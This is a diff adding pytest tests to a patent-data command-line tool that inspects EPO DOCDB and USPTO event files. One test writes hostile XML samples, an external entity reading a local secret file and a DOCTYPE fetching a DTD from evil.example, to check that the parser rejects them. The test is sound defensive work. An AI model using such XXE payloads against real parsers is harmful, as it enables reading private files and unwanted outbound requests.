@@ -132,3 +132,58 @@ def test_unreadable_input_is_one_line_and_exit_2(
 def test_a_missing_file_is_exit_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["inspect", str(tmp_path / "nope.zip")]) == 2
     assert "no such file" in capsys.readouterr().err
+
+
+def test_inspect_reads_a_docdb_delivery_with_deletes_and_quarantine(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    path = PROJECT_ROOT / "data" / "epo_docdb" / "docdb_xml_202647_CreateDelete_001.zip"
+    code = main(["inspect", str(path)])
+    captured = capsys.readouterr()
+    lines = [json.loads(line) for line in captured.out.splitlines()]
+    assert code == 1  # the sample carries a labelled unknown kind code
+    assert [line["position"] for line in lines] == list(range(len(lines)))
+    deletes = [line["doc_key"] for line in lines if line.get("change") == "delete"]
+    assert deletes == ["EP-4100030-B1", "WO-2026230000-A1"]
+    (bad,) = [line for line in lines if line["status"] == "quarantined"]
+    assert (bad["doc_key"], bad["category"]) == ("EP-4720009-A7", "unknown_code")
+    summary = captured.err.strip()
+    assert "epo.docdb (docdb_create_delete profile)" in summary
+    assert f"{len(lines)} records" in summary and "2 deletes" in summary
+
+
+def test_inspect_refuses_a_hostile_docdb_file_in_one_line(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOP-SECRET-CONTENT")
+    path = tmp_path / "docdb_xml_202646_CreateDelete_001.xml"
+    path.write_text(
+        '<?xml version="1.0"?><!DOCTYPE exch:exchange-documents [<!ENTITY x SYSTEM '
+        f'"file://{secret}">]><exch:exchange-documents xmlns:exch="http://www.epo.org/exchange">'
+        '<exch:exchange-document country="EP" doc-number="1" kind="A1">&x;'
+        "</exch:exchange-document></exch:exchange-documents>"
+    )
+    code = main(["inspect", str(path)])
+    captured = capsys.readouterr()
+    assert code == 2
+    (line,) = captured.err.strip().splitlines()
+    assert "entit" in line and "TOP-SECRET" not in captured.out + captured.err
+    external = tmp_path / "other.xml"
+    external.write_text(
+        '<?xml version="1.0"?><!DOCTYPE exch:exchange-documents SYSTEM "http://evil.example/x.dtd">'
+        '<exch:exchange-documents xmlns:exch="http://www.epo.org/exchange"/>'
+    )
+    assert main(["inspect", str(external)]) == 2
+    (line,) = capsys.readouterr().err.strip().splitlines()
+    assert "DTD" in line or "dtd" in line
+
+
+def test_inspect_reads_an_event_file(capsys: pytest.CaptureFixture[str]) -> None:
+    path = next((PROJECT_ROOT / "data" / "events").glob("us-*-transactions.json"))
+    code = main(["inspect", str(path)])
+    captured = capsys.readouterr()
+    lines = [json.loads(line) for line in captured.out.splitlines()]
+    assert code in (0, 1) and lines
+    assert {"source_code", "event_date", "occurrence"} <= set(lines[0])
+    assert "uspto-odp-transactions" in captured.err
